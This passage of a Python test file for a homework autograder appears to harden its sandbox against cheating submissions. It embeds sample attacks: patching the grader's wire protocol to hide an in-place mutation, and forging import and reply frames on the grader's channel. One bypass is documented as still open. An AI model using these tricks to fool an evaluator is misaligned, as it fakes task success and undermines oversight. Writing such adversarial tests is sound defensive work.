# the reply leaves (a thread or a timer that restores it right after the return does the same, less reliably). The
# grader reads the arguments only once the reply is in, and nothing outside the child sees the moment the function
# returned, so the no-mutation checks pass. Any code the child runs after the return is the student's to change
# (threads, signal handlers, the child's own modules), so no ordering inside the child can close this. What would:
# inputs mapped read-only and sealed against writing, on every call (on only some, a hand-in could tell those calls
# apart by ``flags.writeable`` and behave there). A function that changes its input would then raise on every check
# of its target, losing its value checks' points too, not only the no-mutation checks' (SPEC §3 gives each target's
# property checks their own points): a change of the grading policy. What the hand-in gains is the no-mutation
# points a function that leaves its input alone earns.
RESTORED_AFTER_RETURN = """
import sys as _sys

def gd_step(w, grad, lr):
    saved = w.copy()
    w -= lr * grad  # in place: the bug the no-mutation checks are there to catch
    out = w.copy()
    wire = _sys.modules["grader.protocol.wire"]
    send = wire.send_frame

    def send_after_restoring(*args, **kwargs):  # the caller's array put back just before the reply leaves
        w[...] = saved
        wire.send_frame = send
        return send(*args, **kwargs)

    wire.send_frame = send_after_restoring
    return out
"""


@pytest.mark.xfail(strict=True, reason="OPEN BY DESIGN: the no-mutation checks judge the process as a whole (README, "
                   "Guarantees); an input restored by the child before its reply leaves, after the return, is not seen")
def test_an_input_restored_after_the_return_is_still_seen_as_changed() -> None:
    in_place = "\ndef gd_step(w, grad, lr):\n    w -= lr * grad\n    return w.copy()\n"
    graded = grade({"restorer": {"gradient_descent.py": with_attack(HW1, RESTORED_AFTER_RETURN)},
                    "in_place": {"gradient_descent.py": with_attack(HW1, in_place)}}, "hw1")

    no_mutation = ("hw1.gd_step.public.no_mutation", "hw1.gd_step.hidden.no_mutation")
    honest = {r.check_id: r.points for r in graded["in_place"].results}
    assert [honest[check] for check in no_mutation] == [0, 0]  # the plain in-place bug is caught
    restorer = {r.check_id: r.points for r in graded["restorer"].results}
    assert [restorer[check] for check in no_mutation] == [0, 0]


# A hand-in that, while it is being imported, tells the grader the import is over and answers calls not yet made
# (then ends): the import's end is the one reply the grader believes before any call, so forging it must buy no
# more than every function returning a constant would.
FORGED_IMPORT = GRADER_CHANNEL + """
import os as _os

def _forge_the_import_and_its_answers():
    wire = _sys.modules["grader.protocol.wire"]
    sock = _grader_channel()
    if sock is not None:
        wire.send_frame(sock, wire.encode({"imported": True}))
        for _ in range(200):
            wire.send_frame(sock, wire.encode({"returned": np.zeros(4), "stderr": "", "stdout": ""}))
        _os._exit(0)

_forge_the_import_and_its_answers()
"""


def test_a_forged_end_of_import_earns_nothing_a_constant_return_could_not() -> None:
    from grader.course.assignments import ASSIGNMENTS

    constant = "import numpy as np\n" + "".join(
        f"\ndef {target}(*args, **kwargs):\n    return np.zeros(4)\n" for target in ASSIGNMENTS["hw1"].targets)
    graded = grade({"forger": {"gradient_descent.py": with_attack(HW1, FORGED_IMPORT)},
                    "constant": {"gradient_descent.py": constant}}, "hw1")

    baseline = {r.check_id: r.points for r in graded["constant"].results}
    gained = {r.check_id: r.points for r in graded["forger"].results if r.points > baseline[r.check_id]}
    assert gained == {}
    assert sum(baseline.values()) < sum(r.max_points for r in graded["constant"].results)  # the bar is low


# A schedule that raises on an epoch after answering, on the channel, the epochs its check would call after it: once
# a call of a check raised, the child makes no more of that check's calls and the grader waits for no reply to them.
# The forged answers are read in turn as the replies to those very calls, the raise after them: the grader still
# stops the check at the raise, and every row is its twin's, which raises on the same epoch without forging.
SKIPPED_ANSWERED = GRADER_CHANNEL + """
_step_decay = step_decay

def step_decay(lr0, epoch, drop=0.5, every=10):
    if epoch == 1 and every == 10:
        sock = _grader_channel() if FORGE else None
        if sock is not None:
            wire = _sys.modules["grader.protocol.wire"]
            for _ in (9, 10, 11, 19, 20, 35):  # the epochs of this check after this one
                wire.send_frame(sock, wire.encode({"returned": -7.25, "stderr": "", "stdout": ""}))
            sock.detach()
        raise ValueError("no rate for epoch 1")
    return _step_decay(lr0, epoch, drop, every)
"""


def test_answering_the_calls_skipped_after_a_raise_changes_no_row(monkeypatch) -> None:
    from grader.sandbox.session import Session

    decoded = []
    outcome = Session._outcome

    def recorded(self, reply, seconds):
        result = outcome(self, reply, seconds)
        decoded.append(getattr(result, "value", None))
        return result

    monkeypatch.setattr(Session, "_outcome", recorded)
    hw3 = (ALICE / "practice.py").read_text()
    graded = grade({student: {"practice.py": with_attack(hw3, f"FORGE = {forge}\n" + SKIPPED_ANSWERED),
                              "backprop.py": HW2}
                    for student, forge in (("forger", True), ("twin", False))}, "hw3")

    def rows(student: str) -> list[tuple]:
        return [(r.check_id, r.status, r.points, r.message) for r in graded[student].results]

    assert rows("forger") == rows("twin")
    assert [r[0] for r in rows("forger") if r[1] != "pass"] == ["hw3.step_decay.public.defaults"]
    assert sum(type(v) is float and v == -7.25 for v in decoded) == 6  # the forged frames were read
